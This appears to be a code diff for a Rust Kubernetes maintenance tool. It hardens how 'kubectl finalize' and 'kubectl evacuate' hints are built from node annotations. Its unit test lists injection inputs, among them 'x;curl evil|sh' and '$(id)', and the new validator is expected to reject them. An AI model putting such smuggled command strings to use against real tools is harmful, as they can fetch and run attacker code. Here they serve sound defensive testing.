@@ -4,6 +4,7 @@ use serde_json::Value;
 use upkeep::{
     discovery::Kind,
     report::{Finding, ObjRef, Severity},
+    ui::command,
 };
 
 use crate::{
@@ -82,8 +83,14 @@ pub fn left_by_us(desk: &Desk<'_>, objects: &[(&Kind, &Object)]) -> Vec<Finding>
             });
         } else if let Some(run) = object.marks.get(OFF) {
             let hint = match run.strip_prefix("finalize ") {
-                Some(target) => format!("a run of 'kubectl finalize {target}' takes that off"),
-                None => format!("'kubectl evacuate {} --uncordon' takes that off", object.name),
+                Some(target) => match again(target) {
+                    Some(line) => format!("'{line}' removes the taint"),
+                    None => "the run that it names removes the taint".to_owned(),
+                },
+                None => {
+                    let line = command("kubectl evacuate", [object.name.as_str(), "--uncordon"]);
+                    format!("'{line}' removes the taint")
+                }
             };
             found.push(Finding {
                 id: "out-of-service",
@@ -99,6 +106,20 @@ pub fn left_by_us(desk: &Desk<'_>, objects: &[(&Kind, &Object)]) -> Vec<Finding>
     found
 }
 
+/// The command that takes up a run again. The annotation is written by others, too: by the kubelet of the node.
+fn again(target: &str) -> Option<String> {
+    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '.' | ':' | '_');
+    let parts: Vec<&str> = target.split('/').collect();
+    let whole = parts
+        .iter()
+        .all(|part| !part.is_empty() && !part.starts_with('-') && part.chars().all(plain));
+    match parts.as_slice() {
+        [kind, name] if whole => Some(command("kubectl finalize", [*kind, *name])),
+        [kind, namespace, name] if whole => Some(command("kubectl finalize", [*kind, *name, "-n", *namespace])),
+        _ => None,
+    }
+}
+
 fn configurations(desk: &Desk<'_>) -> Vec<(ObjRef, Value)> {
     let mut all = Vec::new();
     for plural in CONFIGURATIONS {
@@ -112,4 +133,25 @@ fn configurations(desk: &Desk<'_>) -> Vec<(ObjRef, Value)> {
         }));
     }
     all
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_an_annotation_says_is_no_command() {
+        let cases = [
+            ("namespaces/stuck", Some("kubectl finalize namespaces stuck")),
+            ("pods/shop/web-0", Some("kubectl finalize pods web-0 -n shop")),
+            ("namespaces/x;curl evil|sh", None),
+            ("namespaces/$(id)", None),
+            ("namespaces/--apply=x", None),
+            ("a/b/c/d", None),
+            ("", None),
+        ];
+        for (target, wanted) in cases {
+            assert_eq!(again(target).as_deref(), wanted, "{target}");
+        }
+    }
 }
